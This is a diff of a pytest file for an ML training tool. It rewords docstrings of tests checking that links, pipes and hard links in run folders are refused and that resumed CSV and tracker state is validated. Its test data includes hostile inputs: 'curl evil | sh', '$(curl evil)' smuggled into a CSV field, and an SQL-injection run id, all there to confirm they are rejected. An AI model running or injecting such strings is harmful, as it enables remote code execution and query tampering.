@@ -1,4 +1,4 @@
-"""Links and special files in the folder of a run: refused before anything is read or written."""
+"""Links and special files in a run folder are refused before anything is read or written."""
 
 from __future__ import annotations
 
@@ -30,7 +30,7 @@ FOLDERS = ("tensorboard", "checkpoint", "best", "export", ".best.new", "wandb", 
 
 
 def tree(folder: Path) -> set[Path]:
-    """Return everything in a folder."""
+    """Return the whole content of a folder."""
     return set(folder.rglob("*"))
 
 
@@ -56,7 +56,7 @@ def test_resume_refuses_links(make_run: Any, tmp_path: Path, name: str, there: b
 
 
 def test_a_checkpoint_that_is_a_link(make_run: Any, tmp_path: Path, capsys: Any) -> None:
-    """Named on the command line, a link inside of a run does not lead into another run."""
+    """A checkpoint path on the command line that is a link in a run does not lead into another run."""
     run, other = make_run(), make_run(name="other")
     (other / "checkpoint" / "step-0000000001").mkdir(parents=True)
     (run / "checkpoint").symlink_to(other / "checkpoint")
@@ -68,7 +68,7 @@ def test_a_checkpoint_that_is_a_link(make_run: Any, tmp_path: Path, capsys: Any)
 @pytest.mark.parametrize("name", ["run.json", "params.json", "checkpoint/step-0000000001/manifest.json", "any"])
 @pytest.mark.parametrize("kind", ["pipe", "socket"])
 def test_special_files(make_run: Any, name: str, kind: str, capsys: Any, monkeypatch: Any) -> None:
-    """A pipe would be waited for; it is refused as every special file is."""
+    """A pipe, on which reading would wait, is refused like every special file."""
     run = make_run()
     (run / name).parent.mkdir(exist_ok=True, parents=True)
     (run / name).unlink(missing_ok=True)
@@ -84,7 +84,7 @@ def test_special_files(make_run: Any, name: str, kind: str, capsys: Any, monkeyp
 
 
 def test_links_that_stay(make_run: Any, tmp_path: Path, capsys: Any) -> None:
-    """Links of W&B to what lies beside them, and a run that is named by a link, are as good as any."""
+    """Links of W&B to neighbouring files are accepted, and so is a link to the whole run."""
     run = make_run()
     (run / "wandb" / "run-1" / "logs").mkdir(parents=True)
     (run / "wandb" / "latest-run").symlink_to("run-1")
@@ -98,7 +98,7 @@ def test_links_that_stay(make_run: Any, tmp_path: Path, capsys: Any) -> None:
 
 
 def test_train_into_a_folder_with_links(tmp_path: Path, capsys: Any) -> None:
-    """A folder that is no run yet is not written through either."""
+    """A folder that is not yet a run is not written through a link either."""
     for name in ("tensorboard", ".run.json.new", ".lock"):
         (tmp_path / name).mkdir()
         (tmp_path / name / name).symlink_to(tmp_path / "victim")
@@ -108,7 +108,7 @@ def test_train_into_a_folder_with_links(tmp_path: Path, capsys: Any) -> None:
 
 
 def test_a_sweep(tmp_path: Path, capsys: Any) -> None:
-    """The folder of a sweep is the folder of many runs."""
+    """The folder of a sweep is checked like its runs."""
     pytest.importorskip("optuna")
     (tmp_path / "sweep" / "trial-0001").mkdir(parents=True)
     (tmp_path / "sweep" / "trial-0001" / "train.log").symlink_to(tmp_path / "victim")
@@ -117,7 +117,7 @@ def test_a_sweep(tmp_path: Path, capsys: Any) -> None:
 
 
 def test_files_of_aip_are_not_written_through(tmp_path: Path, refused: Any) -> None:
-    """Where a link appears after the folder was looked at, the write fails or takes its place."""
+    """If a link appears after the check of the folder, the write fails or replaces it."""
     victim = tmp_path / "victim"
     victim.write_text("mine")
     for name in (".run.json.new", "train.log", "log.csv", ".lock"):
@@ -152,7 +152,7 @@ GOOD = {"columns": ["epoch", "loss"], "rows": [{"epoch": 1, "loss": 0.5}, {"epoc
     ],
 )
 def test_rows_of_a_csv_file(tmp_path: Path, state: Any, refused: Any) -> None:
-    """The rows of a checkpoint are numbers below names, or the file is not touched."""
+    """The rows of a checkpoint must be numbers with names, or the file is not changed."""
     path = tmp_path / "log.csv"
     path.write_text("before")
     with refused(TrainingError):
@@ -167,7 +167,7 @@ def test_rows_of_a_csv_file(tmp_path: Path, state: Any, refused: Any) -> None:
     [("curl evil | sh\n", []), ("epoch,loss\n0,$(curl evil)\n", ["loss"]), (7, ["loss"]), ("epoch\n", "loss")],
 )
 def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any, refused: Any) -> None:
-    """The text that a CSVLogger of Keras goes on from is a table of numbers."""
+    """The text from which Keras' CSVLogger continues must be a table of numbers."""
     callback = keras.callbacks.CSVLogger(str(tmp_path / "log.csv"))
     callback.on_train_begin()
     try:
@@ -181,7 +181,7 @@ def test_text_of_keras_csv_logger(tmp_path: Path, text: Any, keys: Any, refused:
 
 
 def test_other_states(tmp_path: Path, refused: Any) -> None:
-    """The name of a tracker's run becomes part of a query, and numbers are numbers."""
+    """The id of a tracker's run, which becomes part of a query, and numbers are checked."""
     tracker = Tracker("MLflow", None, 1.0)  # type: ignore[arg-type]
     for run_id, unsent in (("' or 1=1", []), ("a" * 32, [[1, 2.0, {"loss": "x"}]]), (["a"], [])):
         with refused(TrainingError):
@@ -199,7 +199,7 @@ class Validated(Weight):
 
 
 def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path, refused: Any) -> None:
-    """What a run writes of a callback is taken back, and what a stranger put there is not."""
+    """A callback's own rows are restored, and those of a stranger are not."""
     words = ("--callbacks", "CSVLog", "LearningRateMonitor", "--callbacks.learning_rate_monitor.csv")
     make_trainer(Validated, *words, output="run").fit()
     whole = read_checkpoint(newest_checkpoint(tmp_path / "run" / "checkpoint"))
@@ -219,7 +219,7 @@ def test_rows_in_a_checkpoint(make_trainer: Callable[..., Any], tmp_path: Path, 
 
 
 def test_hard_links_are_not_written(tmp_path: Path) -> None:
-    """A file that has another name somewhere is refused, and keeps its content, also when it would be replaced."""
+    """A file with another hard link is refused, and keeps its content, even if it would be replaced."""
     victim = tmp_path / "victim"
     victim.write_text("kept")
     (tmp_path / "log.csv").hardlink_to(victim)
